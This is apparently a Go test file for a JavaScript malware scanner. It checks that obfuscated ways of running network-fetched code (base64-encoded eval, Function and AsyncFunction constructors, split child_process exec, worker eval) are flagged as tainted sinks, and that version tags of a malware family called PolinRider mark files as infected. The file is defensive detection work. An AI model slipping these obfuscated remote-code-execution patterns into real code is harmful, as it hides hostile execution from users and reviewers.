package lure

import (
	"fmt"
	"testing"
)

// Each way the lures reach a code sink, fed from the network, is a
// tainted sink; the look-alikes are not.
func TestHiddenSinks(t *testing.T) {
	const src = "fetch('https://a.example.invalid/x').then((r) => r.text()).then((t) => { %s; });"
	run := func(sink string) bool {
		f := analyzeJS([]byte(fmt.Sprintf(src, sink)), false, nil)
		for _, s := range f.sinks {
			if s.tainted {
				return true
			}
		}
		return false
	}
	for _, sink := range []string{
		"Object.getPrototypeOf(async function () {}).constructor('require', t)(require)",
		"const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor; new AsyncFunction('require', t)(require)",
		"(function* () {}).constructor(t)().next()",
		"Function.prototype.constructor(t)()",
		"import('data:text/javascript,' + encodeURIComponent(t))",
		"global[Buffer.from('ZXZhbA==', 'base64').toString()](t)",
		"globalThis[atob('ZXZhbA==')](t)",
		"module.constructor.prototype._compile.call(module, t, 'x.js')",
		"const cp = require('child_process'); cp['ex' + 'ec'](t)",
		"new (require('worker_threads').Worker)(t, { eval: true })",
		"require('axios')({ url: t, method: 'get' }).then(({ data }) => eval(data))",
	} {
		if !run(sink) {
			t.Errorf("not a tainted sink: %s", sink)
		}
	}
	for _, benign := range []string{
		"window[callbackName](JSON.parse(t))",
		"globalThis[handlerName](t)",
		"import('./pages/' + page + '.js')",
		"new Worker('./worker.js', { type: 'module' })",
		"console.log(t.constructor.name)",
	} {
		if run(benign) {
			t.Errorf("look-alike taken for a sink: %s", benign)
		}
	}
}

// PolinRider's version tags mark a file as infected on their own; other
// values in the same globals do not.
func TestPolinRiderTags(t *testing.T) {
	for src, want := range map[string]bool{
		"global['_V']='8-311';":        true,
		"global['!']='8-270-2';":       true,
		"global.i=\"A8-3292-1\";":      true,
		"global['_V']='9-sim';":        true,
		"global.i = 0;":                false,
		"global['_V'] = 'v1.2.3';":     false,
		"globalThis.i = '2024-01-01';": false,
	} {
		if got := len(analyzeJS([]byte(src), true, nil).markers) > 0; got != want {
			t.Errorf("%s: marker %v, want %v", src, got, want)
		}
	}
}
